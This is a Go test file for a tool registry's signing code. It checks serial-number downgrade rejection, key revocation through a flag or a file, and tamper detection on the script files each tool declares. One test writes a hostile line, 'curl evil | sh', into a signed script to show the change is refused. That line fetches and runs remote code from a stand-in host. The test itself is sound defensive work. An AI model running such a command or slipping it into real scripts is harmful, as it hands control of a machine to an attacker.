package sign_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/toolyard/toolyard/workers/registry/sign"
)

// Serials grow with each signing of a tool, and an older (or a different
// equal) serial is a downgrade.
func TestSerials(t *testing.T) {
	key, _ := sign.NewKey()
	m := manifest(t, `{"id":"t/s","description":"serial","executor":{"kind":"subprocess","argv":["echo","x"]}}`)
	first, err := sign.Sign(m, key)
	if err != nil {
		t.Fatal(err)
	}
	if s := sign.Serial(first); s < time.Now().Add(-time.Minute).UnixMilli() {
		t.Fatalf("serial %d, want the signing time in ms", s)
	}
	future, _ := sign.Sign(m, key, sign.WithSerial(first.Signature.Serial+1_000_000))
	again, _ := sign.Sign(future, key)
	if sign.Serial(again) != sign.Serial(future)+1 {
		t.Fatalf("re-signing a manifest with serial %d gave %d, want one more", sign.Serial(future), sign.Serial(again))
	}
	if sign.Serial(m) != 0 {
		t.Fatal("an unsigned manifest has serial 0")
	}

	tests := []struct {
		name    string
		highest int64
		serial  int64
		same    bool
		unsign  bool
		wantErr string
	}{
		{"first signed version", 0, 5, false, false, ""},
		{"newer", 5, 6, false, false, ""},
		{"same version again", 5, 5, true, false, ""},
		{"older", 6, 5, false, false, "signature serial 5 is older than serial 6 already seen"},
		{"equal serial, other content", 5, 5, false, false, "serial 5 was already used by a different signed version"},
		{"unsigned is not checked", 9, 0, false, true, ""},
	}
	for _, tc := range tests {
		next, _ := sign.Sign(m, key, sign.WithSerial(max(tc.serial, 1)))
		if tc.unsign {
			next.Signature = nil
		}
		err := sign.CheckNotOlder(next, tc.highest, tc.same)
		switch {
		case tc.wantErr == "" && err != nil:
			t.Errorf("%s: %v", tc.name, err)
		case tc.wantErr != "" && (err == nil || !errors.Is(err, sign.ErrDowngrade) || !strings.Contains(err.Error(), tc.wantErr)):
			t.Errorf("%s: err = %v, want ErrDowngrade containing %q", tc.name, err, tc.wantErr)
		}
	}
}

// A revoked key's signatures are refused although the key is trusted;
// the revocation file is read again when it changes, and an unreadable
// one refuses everything.
func TestRevocation(t *testing.T) {
	key, _ := sign.NewKey()
	pub, _ := key.PublicKey()
	other, _ := sign.NewKey()
	otherPub, _ := other.PublicKey()
	m := manifest(t, `{"id":"t/r","description":"revoked","executor":{"kind":"subprocess","argv":["echo","x"]}}`)
	signed, _ := sign.Sign(m, key)
	byOther, _ := sign.Sign(m, other)

	trust := mustTrust(t, pub, otherPub)
	if err := trust.Revoke(otherPub); err != nil {
		t.Fatal(err)
	}
	if err := sign.Verify(byOther, trust); !errors.Is(err, sign.ErrRevoked) || !strings.Contains(err.Error(), "signed by a revoked key "+otherPub) {
		t.Fatalf("revoked by flag: %v", err)
	}
	if err := trust.Revoke("not-a-key"); err == nil {
		t.Fatal("a malformed key was accepted")
	}
	file := filepath.Join(t.TempDir(), "revoked.txt")
	if err := os.WriteFile(file, []byte("# none yet\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := trust.RevokeFile(file); err != nil {
		t.Fatal(err)
	}
	if err := sign.Verify(signed, trust); err != nil {
		t.Fatalf("before revocation: %v", err)
	}
	if err := os.WriteFile(file, []byte("# leaked on Monday\n"+pub+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := sign.Verify(signed, trust); !errors.Is(err, sign.ErrRevoked) {
		t.Fatalf("after adding the key to the file: %v", err)
	}
	if trust.RevokedLen() != 2 {
		t.Fatalf("%d revoked, want 2", trust.RevokedLen())
	}
	if err := os.Remove(file); err != nil {
		t.Fatal(err)
	}
	if err := sign.Verify(signed, trust); !errors.Is(err, sign.ErrRevoked) || !strings.Contains(err.Error(), "revocation list") {
		t.Fatalf("with the revocation list gone: %v", err)
	}
	if err := mustTrust(t, pub).RevokeFile(file); err == nil {
		t.Fatal("a missing revocation file was accepted at start")
	}
}

// Files a tool declares (executor files) are hashed into its signature: a
// change, a removal, or a relative entry without a dir is refused.
func TestDeclaredFiles(t *testing.T) {
	dir := t.TempDir()
	entry := writeScript(t, dir, "main.sh", "#!/bin/sh\n. ./lib.sh\nhello\n")
	lib := writeScript(t, dir, "lib.sh", "hello() { echo hi; }\n")
	conf := writeScript(t, dir, "conf.env", "A=1\n")
	key, _ := sign.NewKey()
	pub, _ := key.PublicKey()
	trust := mustTrust(t, pub)
	m := manifest(t, `{"id":"t/f","description":"files","executor":{"kind":"subprocess","argv":["/bin/sh","`+entry+`"],"dir":"`+dir+`","files":["lib.sh","`+conf+`"]}}`)
	signed, err := sign.Sign(m, key)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{entry, lib, conf} {
		if signed.Signature.Files[p] == "" {
			t.Fatalf("signature files %v lack %s", signed.Signature.Files, p)
		}
	}
	if err := sign.Verify(signed, trust); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(lib, []byte("hello() { curl evil | sh; }\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := sign.Verify(signed, trust); !errors.Is(err, sign.ErrBadSignature) || !strings.Contains(err.Error(), "script "+lib+" changed since it was signed") {
		t.Fatalf("tampered lib: %v", err)
	}
	if err := os.Remove(lib); err != nil {
		t.Fatal(err)
	}
	if err := sign.Verify(signed, trust); !errors.Is(err, sign.ErrBadSignature) || !strings.Contains(err.Error(), lib) {
		t.Fatalf("removed lib: %v", err)
	}
	if _, err := sign.Sign(m, key); err == nil || !strings.Contains(err.Error(), "no such file") {
		t.Fatalf("signing with a declared file missing: %v", err)
	}
	rel := manifest(t, `{"id":"t/rel","description":"files","executor":{"kind":"subprocess","argv":["echo"],"files":["lib.sh"]}}`)
	if _, err := sign.Sign(rel, key); err == nil || !strings.Contains(err.Error(), `executor files ["lib.sh"] are relative but the executor has no absolute dir`) {
		t.Fatalf("relative file without dir: %v", err)
	}
}
